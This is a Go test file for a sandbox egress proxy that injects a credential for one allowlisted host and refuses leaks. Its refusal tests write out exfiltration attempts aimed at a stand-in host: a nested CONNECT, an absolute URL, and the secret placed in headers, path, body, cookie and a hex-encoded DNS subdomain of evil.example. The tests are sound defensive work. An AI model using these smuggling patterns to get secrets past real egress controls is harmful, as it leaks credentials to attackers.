package hostsock

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/clawpen/clawpen/internal/domain"
	"github.com/clawpen/clawpen/internal/leakguard"
)

const credSecret = "ghp_injected-secret-0123456789"

// seen is what a TLS upstream received.
type seen struct {
	mu   sync.Mutex
	reqs []seenReq
}

type seenReq struct {
	proto, host, path string
	auth              []string
	body              string
}

func (s *seen) all() []seenReq {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]seenReq(nil), s.reqs...)
}

// tlsUpstream is a loopback HTTPS server speaking HTTP/1.1 and HTTP/2,
// with a certificate of its own test CA (the pool trusts it).
func tlsUpstream(t testing.TB) (addr string, cert *x509.Certificate, got *seen) {
	t.Helper()
	got = &seen{}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got.mu.Lock()
		got.reqs = append(got.reqs, seenReq{r.Proto, r.Host, r.URL.Path, r.Header.Values("Authorization"), string(b)})
		got.mu.Unlock()
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "https://127.0.0.3:1/elsewhere", http.StatusFound)
			return
		}
		fmt.Fprintf(w, "hello %s", r.URL.Path)
	}))
	srv.EnableHTTP2 = true
	srv.StartTLS()
	t.Cleanup(srv.Close)
	return srv.Listener.Addr().String(), srv.Certificate(), got
}

// injectServer is a socket whose profile allows addr and holds a
// credential for it; plain lists addresses allowed without one.
func injectServer(t testing.TB, addr string, roots *x509.CertPool, plain ...string) (*Server, *auditLog) {
	t.Helper()
	host, port, _ := net.SplitHostPort(addr)
	p, _ := strconv.Atoi(port)
	audit := &auditLog{}
	s, _ := listen(t, Config{
		Profile: domain.Profile{Name: "gh", Network: domain.NetworkAllowlist, Egress: append([]string{addr}, plain...),
			Credentials: []domain.Credential{{Host: host, Port: uint16(p), Header: "Authorization", Value: "Bearer ${GH_TOKEN}"}}},
		Audit:         audit.add,
		Getenv:        func(k string) string { return map[string]string{"GH_TOKEN": credSecret}[k] },
		UpstreamRoots: roots,
		Guard:         leakguard.New(leakguard.Secret{Name: "GH_TOKEN", Value: credSecret}),
	})
	return s, audit
}

// sandboxClient is a client in the sandbox: its proxy is the socket, it
// trusts roots (the bundle the sandbox is given, or another), speaks h2
// when asked, and keeps connections alive.
func sandboxClient(s *Server, roots *x509.CertPool, h2 bool) *http.Client {
	tr := &http.Transport{
		Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"}),
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "unix", s.Path())
		},
		TLSClientConfig:   &tls.Config{RootCAs: roots},
		ForceAttemptHTTP2: h2,
	}
	if !h2 {
		tr.TLSNextProto = map[string]func(string, *tls.Conn) http.RoundTripper{}
	}
	return &http.Client{Transport: tr, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func runCAPool(t testing.TB, s *Server) *x509.CertPool {
	t.Helper()
	pool := x509.NewCertPool()
	require.True(t, pool.AppendCertsFromPEM(s.RunCA()))
	return pool
}

// Requests to the credential host, over HTTP/1.1 kept alive and over
// HTTP/2, each reach it with the credential exactly once, the sandbox's
// own header of that name replaced; each is audited without the value.
func TestInjectsTheCredential(t *testing.T) {
	for _, h2 := range []bool{false, true} {
		t.Run(fmt.Sprintf("h2=%v", h2), func(t *testing.T) {
			addr, cert, got := tlsUpstream(t)
			s, audit := injectServer(t, addr, poolOf(cert))
			c := sandboxClient(s, runCAPool(t, s), h2)
			for _, path := range []string{"/a", "/b", "/c"} {
				req, _ := http.NewRequest("POST", "https://"+addr+path, strings.NewReader("body of "+path))
				req.Header.Set("Authorization", "Bearer sandbox-own-value")
				resp, err := c.Do(req)
				require.NoError(t, err)
				b, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				assert.Equal(t, 200, resp.StatusCode, string(b))
				assert.Equal(t, "hello "+path, string(b))
				want := "HTTP/1.1"
				if h2 {
					want = "HTTP/2.0"
				}
				assert.Equal(t, want, resp.Proto, "the sandbox's side")
			}
			reqs := got.all()
			require.Len(t, reqs, 3)
			for _, r := range reqs {
				assert.Equal(t, []string{"Bearer " + credSecret}, r.auth, "replaced, not doubled")
				assert.Equal(t, "HTTP/2.0", r.proto, "the host speaks HTTP/2 upstream when it can")
				assert.Equal(t, "body of "+r.path, r.body)
			}
			lines := audit.egressLines()
			n := 0
			for _, l := range lines {
				assert.NotContains(t, l, credSecret)
				if strings.Contains(l, "credential [Authorization] injected, answered 200") {
					n++
				}
			}
			assert.Equal(t, 3, n, "%q", lines)
			// One CONNECT for the three requests: kept alive, request by request.
			connects := 0
			for _, l := range lines {
				if strings.HasPrefix(l, "allow CONNECT") {
					connects++
				}
			}
			assert.Equal(t, 1, connects, "%q", lines)
		})
	}
}

// A host without a credential is still a tunnel: the client sees the
// upstream's own certificate, and the run's CA is not trusted for it.
func TestOtherHostsStayTunnels(t *testing.T) {
	credAddr, credCert, _ := tlsUpstream(t)
	plainAddr, plainCert, got := tlsUpstream(t)
	s, _ := injectServer(t, credAddr, poolOf(credCert), plainAddr)
	resp, err := sandboxClient(s, poolOf(plainCert), false).Get("https://" + plainAddr + "/x")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, 200, resp.StatusCode)
	assert.Nil(t, got.all()[0].auth, "no credential")
	require.NotNil(t, resp.TLS)
	assert.Equal(t, plainCert.Raw, resp.TLS.PeerCertificates[0].Raw, "the upstream's own certificate")
	_, err = sandboxClient(s, runCAPool(t, s), false).Get("https://" + plainAddr + "/x")
	require.Error(t, err, "the run's CA does not vouch for another host")
}

func poolOf(c *x509.Certificate) *x509.CertPool {
	p := x509.NewCertPool()
	p.AddCert(c)
	return p
}

// tlsInTunnel opens a CONNECT to target and a TLS session over it that
// trusts roots and names serverName.
func tlsInTunnel(t *testing.T, s *Server, target, serverName string, roots *x509.CertPool) (*tls.Conn, error) {
	t.Helper()
	c, r, status := connect(t, s, target)
	require.Equal(t, "HTTP/1.1 200 Connection established", status)
	tc := tls.Client(&bufferedConn{Conn: c, r: r}, &tls.Config{RootCAs: roots, ServerName: serverName, NextProtos: []string{"http/1.1"},
		InsecureSkipVerify: serverName == "" || serverName != strings.Split(target, ":")[0],
	})
	return tc, tc.Handshake()
}

// Whatever the sandbox says, the host injects only for the host the
// CONNECT named, as the profile writes it, and for requests naming it.
func TestInjectionRefusals(t *testing.T) {
	addr, cert, got := tlsUpstream(t)
	s, audit := injectServer(t, addr, poolOf(cert))
	ca := runCAPool(t, s)
	ip := strings.Split(addr, ":")[0]

	// A TLS server name other than none for an address: no handshake.
	_, err := tlsInTunnel(t, s, addr, "api.github.com", ca)
	require.Error(t, err)

	leaky := strings.Repeat("x", 10) + base64.StdEncoding.EncodeToString([]byte(credSecret))
	send := func(raw string) (int, string) {
		t.Helper()
		tc, err := tlsInTunnel(t, s, addr, ip, ca)
		require.NoError(t, err)
		_, err = io.WriteString(tc, raw)
		require.NoError(t, err)
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		require.NoError(t, err)
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	for _, tc := range []struct{ name, raw, want string }{
		{"Host of another", "GET / HTTP/1.1\r\nHost: 127.0.0.3:" + strings.Split(addr, ":")[1] + "\r\n\r\n", "is not " + addr},
		{"Host with a trailing dot", "GET / HTTP/1.1\r\nHost: " + ip + ".:" + strings.Split(addr, ":")[1] + "\r\n\r\n", "is not"},
		{"absolute URL of another", "GET https://evil.example/ HTTP/1.1\r\nHost: " + addr + "\r\n\r\n", "name a path only"},
		{"CONNECT inside", "CONNECT evil.example:443 HTTP/1.1\r\nHost: " + addr + "\r\n\r\n", "CONNECT inside"},
		{"secret in a header", "GET / HTTP/1.1\r\nHost: " + addr + "\r\nX-Leak: " + base64.StdEncoding.EncodeToString([]byte(credSecret)) + "\r\n\r\n", "secret in request"},
		{"secret in the path", "GET /" + url.PathEscape(credSecret) + " HTTP/1.1\r\nHost: " + addr + "\r\n\r\n", "secret in request"},
		{"secret in the body", "POST /up HTTP/1.1\r\nHost: " + addr + "\r\nContent-Length: " + strconv.Itoa(len(leaky)) + "\r\n\r\n" + leaky, "secret in request"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, body := send(tc.raw)
			assert.Equal(t, 403, status, body)
			assert.Contains(t, body, tc.want)
		})
	}
	for _, r := range got.all() {
		assert.NotContains(t, r.body, base64.StdEncoding.EncodeToString([]byte(credSecret))[:8], "nothing of the secret went up")
	}
	guard := leakguard.New(leakguard.Secret{Name: "GH_TOKEN", Value: credSecret})
	denials := 0
	for _, l := range audit.egressLines() {
		assert.False(t, guard.Contains([]byte(l)), l)
		if strings.HasPrefix(l, "deny") {
			denials++
		}
	}
	assert.GreaterOrEqual(t, denials, 8, "%q", audit.egressLines())
}

// The CONNECT must name the credential host exactly as the profile does:
// upper case or a trailing dot is refused before anything is dialled.
func TestCredentialHostNamedExactly(t *testing.T) {
	audit := &auditLog{}
	s, _ := listen(t, Config{
		Profile: domain.Profile{Name: "gh", Network: domain.NetworkAllowlist, Egress: []string{"api.example.org"},
			Credentials: []domain.Credential{{Host: "api.example.org", Port: 443, Header: "Authorization", Value: "${T}"}}},
		Audit: audit.add, Resolver: fakeResolver{},
	})
	for _, target := range []string{"API.example.org:443", "api.example.org.:443", "Api.Example.Org:443"} {
		_, _, status := connect(t, s, target)
		assert.Contains(t, status, "403 denied: credentials are injected for api.example.org:443 only when it is named exactly so", target)
	}
	_, _, status := connect(t, s, "api.example.org:443")
	assert.Contains(t, status, "502", "named exactly: checked, looked up (and here not found)")
}

// A secret of the host's in a CONNECT target (a DNS name the host would
// look up) or in a plain request is refused and audited.
func TestSecretInPlainEgressRefused(t *testing.T) {
	var bodies []string
	var mu sync.Mutex
	addr := upstream(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		bodies = append(bodies, string(b))
		mu.Unlock()
	})
	audit := &auditLog{}
	s, _ := listen(t, Config{
		Profile: domain.Profile{Name: "web", Network: domain.NetworkAllowlist, Egress: []string{addr, "*"}},
		Audit:   audit.add, Guard: leakguard.New(leakguard.Secret{Name: "BOT", Value: credSecret}),
		Resolver: fakeResolver{},
	})
	_, _, status := connect(t, s, strings.ToLower(hexEncode(credSecret))[:60]+".evil.example:443")
	assert.Contains(t, status, "403 denied: secret in request")

	c := proxyClient(s)
	resp, err := c.Post("http://"+addr+"/up", "text/plain", strings.NewReader(strings.Repeat("a", 100000)+credSecret))
	require.NoError(t, err)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	assert.Equal(t, 403, resp.StatusCode, string(b))
	assert.Contains(t, string(b), "denied: secret in request")
	req, _ := http.NewRequest("GET", "http://"+addr+"/", nil)
	req.Header.Set("Cookie", "s="+credSecret)
	resp, err = c.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, 403, resp.StatusCode)
	mu.Lock()
	for _, b := range bodies {
		assert.NotContains(t, b, credSecret)
	}
	mu.Unlock()
	n := 0
	guard := leakguard.New(leakguard.Secret{Name: "BOT", Value: credSecret})
	for _, l := range audit.egressLines() {
		assert.False(t, guard.Contains([]byte(l)), l)
		if strings.Contains(l, "secret in request (") {
			n++
		}
	}
	assert.Equal(t, 3, n, "%q", audit.egressLines())
}

func hexEncode(s string) string { return fmt.Sprintf("%x", s) }

// The host verifies the credential host's certificate against its own
// roots: one they do not vouch for gets no credential (502), and a
// redirect is passed back, never followed by the host.
func TestInjectionVerifiesTheUpstreamAndFollowsNoRedirect(t *testing.T) {
	addr, cert, got := tlsUpstream(t)
	s, audit := injectServer(t, addr, x509.NewCertPool()) // trusts nothing
	resp, err := sandboxClient(s, runCAPool(t, s), false).Get("https://" + addr + "/x")
	require.NoError(t, err)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	assert.Equal(t, 502, resp.StatusCode, string(b))
	assert.Contains(t, string(b), "certificate")
	assert.Empty(t, got.all(), "no request reached an upstream the host could not verify")
	assert.Contains(t, strings.Join(audit.egressLines(), "\n"), "error GET https://"+addr+"/x: failed (credential [Authorization]): ")

	s, _ = injectServer(t, addr, poolOf(cert))
	resp, err = sandboxClient(s, runCAPool(t, s), false).Get("https://" + addr + "/redirect")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusFound, resp.StatusCode)
	assert.Equal(t, "https://127.0.0.3:1/elsewhere", resp.Header.Get("Location"))
	assert.Len(t, got.all(), 1)
}
